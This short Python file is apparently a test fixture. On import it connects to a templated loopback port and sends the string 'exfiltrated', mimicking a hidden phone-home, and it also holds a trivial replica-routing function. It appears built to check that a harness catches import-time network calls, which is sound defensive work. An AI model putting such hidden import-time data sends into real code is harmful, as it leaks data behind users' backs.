import socket

# Tries to phone home at import: the test listens on this loopback port.
_s = socket.create_connection(("127.0.0.1", @@PORT@@), timeout=2)
_s.sendall(b"exfiltrated")


def route(request, replicas, now):
    return replicas[0].id
